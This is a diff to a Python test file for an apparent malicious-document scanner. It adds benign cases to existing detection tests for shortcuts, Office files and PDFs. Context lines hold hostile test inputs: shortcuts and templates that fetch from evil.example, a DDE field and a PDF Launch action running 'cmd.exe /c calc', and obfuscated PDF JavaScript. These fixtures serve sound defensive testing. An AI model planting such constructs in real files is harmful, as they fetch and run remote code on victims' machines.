@@ -77,6 +77,8 @@ def ordinary_files_are_clean():
     clean('数字,名字\n1,王\n'.encode('gb18030'), '表.csv', 'csv')
     clean(make.PNG, 'a.png', 'png', 'image/png')
     clean(b'\xff\xd8\xff\xe0' + b'x' * 2000, 'IMG_0001.JPG', 'jpeg', 'image/jpeg')
+    clean(b'@echo off\n#!/bin/sh\n', '', 'text', 'text/plain')
+    clean(b'text', 'a.dat', 'text')
     clean(b'{"a": 1}', 'a.json', 'json', 'application/json')
     clean(b'<?xml version="1.0"?><a><b>1</b></a>', 'a.xml', 'xml')
     clean(b'BEGIN:VCARD\r\nFN:A\r\nEND:VCARD\r\n', 'a.vcf', 'vcard', 'text/vcard')
@@ -155,6 +157,7 @@ def shortcuts():
     assert 'powershell' in r.detail('shortcut_command')[0] and r.detail('shortcut_remote') == ['\\\\evil.example\\a.ico'], r.findings
     finds(b'[InternetShortcut]\r\nURL=file://evil.example/share/a.exe\r\n', 'a.url', ['shortcut_remote'], kind='url')
     finds(b'[InternetShortcut]\r\nURL=https://example.org/\r\n', 'a.url', ['shortcut_page'], absent=('shortcut_remote',))
+    finds(b'[InternetShortcut]\r\nURL=https://docs.python.org/\r\n', 'a.url', ['shortcut_page'], absent=('shortcut_command',))
     finds(b'[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\a.ico\r\n', 'a.scf', ['shortcut_remote'], kind='scf')
     finds('<?xml version="1.0"?><libraryDescription><url>\\\\evil.example\\dav</url></libraryDescription>'.encode(), 'a.library-ms', ['shortcut_remote'], kind='library')
     finds('<PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>'.encode(),
@@ -308,6 +311,7 @@ def open_xml():
     finds(make.office('docx', ('word/_rels/settings.xml.rels', make.relationship('attachedTemplate', '&#104;ttp://evil.example/t.dotm').encode('utf-16'))), 'a.docx', ['external_template'])
     finds(make.office('docx', ('word/_rels/document.xml.rels', make.relationship('oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://y'))), 'a.docx', ['external_object'])
     finds(make.office('docx', ('word/_rels/document.xml.rels', make.relationship('frame', '\\\\evil.example\\a'))), 'a.docx', ['external_object'])
+    finds(make.office('docx', ('word/_rels/document.xml.rels', make.relationship('hyperlink', '\\\\server\\share\\a.docx'))), 'a.docx', ['remote_link'], absent=('external_object',))
     finds(make.office('docx', ('word/_rels/document.xml.rels', make.relationship('image', 'http://x.example/1.png'))), 'a.docx', ['external_image'], absent=('external_object',))
     finds(make.office('docx', ('word/document.xml', make.field('DD', 'EAU', 'TO c:\\\\windows\\\\cmd.exe'))), 'a.docx', ['dde'])
     finds(make.office('docx', ('word/embeddings/oleObject1.bin', make.ole({'\x01Ole10Native': make.native()}))), 'a.docx', ['embedded_package', 'script'])
@@ -341,6 +345,9 @@ def portable_documents():
     r = finds(make.pdf(b'<< /OpenAction << /S /JavaScript /JS (app.launchURL\\("http://x"\\); eval\\(unescape\\("%41"\\)\\)) >> >>'), 'a.pdf',
               ['pdf_javascript', 'pdf_open_action', 'page_obfuscated'], kind='pdf')
     assert any(p[0] == 2 for p in r.pieces)
+    r = finds(make.pdf(b'<< /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0, 0, 0, "", true\\);) >> >> >>'), 'form.pdf', ['pdf_form_script'], absent=('pdf_javascript',))
+    finds(make.pdf(b'<< /S /URI /URI (file://evil.example/a) >>'), 'a.pdf', ['remote_link'])
+    finds(make.pdf(b'<< /Names << /JavaScript 9 0 R >> >>'), 'a.pdf', ['pdf_javascript'])
     finds(make.pdf(b'<< /S /J#61vaScript /JS <616c657274> >>'), 'a.pdf', ['pdf_javascript', 'document_obfuscated'])
     finds(make.pdf_objstm(b'<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), 'a.pdf', ['pdf_launch'])
     finds(make.pdf(b'<< /S /GoToR /F (\\\\\\\\evil.example\\\\a) >>'), 'a.pdf', ['pdf_remote'])
